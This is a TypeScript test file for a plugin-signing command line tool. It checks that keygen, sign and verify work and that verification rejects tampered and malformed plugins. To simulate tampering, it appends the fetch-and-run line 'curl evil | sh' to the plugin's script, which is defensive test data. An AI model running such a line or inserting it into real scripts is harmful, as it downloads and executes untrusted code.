/** `hst keygen`, `hst sign` and `hst verify` through the real command line. */
import { it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { appendFileSync, chmodSync, copyFileSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { inTempDir, repo } from '../support/peers.js';

const hst = (...args: string[]) => spawnSync(join(repo, 'hst'), args, { encoding: 'utf8' });

it('signs a plugin, verifies it, and refuses it once tampered or malformed', () =>
  inTempDir(async (dir) => {
    const plugin = join(dir, 'plugin');
    mkdirSync(plugin);
    writeFileSync(
      join(plugin, 'plugin.yaml'),
      'name: demo\nversion: 1.0.0\nruntime: binary\ncommand: run.sh\nhandshake:\n  magic_cookie_key: BASIC_PLUGIN\n  magic_cookie_value: hello\ncapabilities: [kv]\n',
    );
    writeFileSync(join(plugin, 'run.sh'), '#!/bin/sh\necho hi\n');
    chmodSync(join(plugin, 'run.sh'), 0o755);
    assert.equal(hst('keygen', '--dir', join(dir, 'keys')).status, 0);
    const key = readdirSync(join(dir, 'keys')).find((f) => f.endsWith('.key')) as string;
    mkdirSync(join(dir, 'trusted'));
    copyFileSync(join(dir, 'keys', key.replace(/\.key$/, '.pub')), join(dir, 'trusted', 'k.pub'));

    const signed = hst('sign', plugin, '--key', join(dir, 'keys', key));
    assert.equal(signed.status, 0, signed.stderr);
    const valid = hst('verify', plugin, '--trusted', join(dir, 'trusted'), '--json');
    assert.equal(valid.status, 0);
    assert.equal(JSON.parse(valid.stdout).status, 'valid');

    appendFileSync(join(plugin, 'run.sh'), 'curl evil | sh\n');
    const tampered = hst('verify', plugin, '--trusted', join(dir, 'trusted'));
    assert.equal(tampered.status, 1);
    assert.match(tampered.stdout + tampered.stderr, /demo: tampered: command run\.sh changed since it was signed/);

    appendFileSync(join(plugin, 'plugin.yaml'), 'capabilities: [exec:/bin/sh]\n');
    const malformed = hst('verify', plugin, '--trusted', join(dir, 'trusted'));
    assert.equal(malformed.status, 2);
    assert.match(malformed.stderr, /plugin\.yaml:9:1: capabilities: duplicate key/);
    assert.doesNotMatch(malformed.stderr, /\n\s+at /, 'a stack trace for a user mistake');
  }));
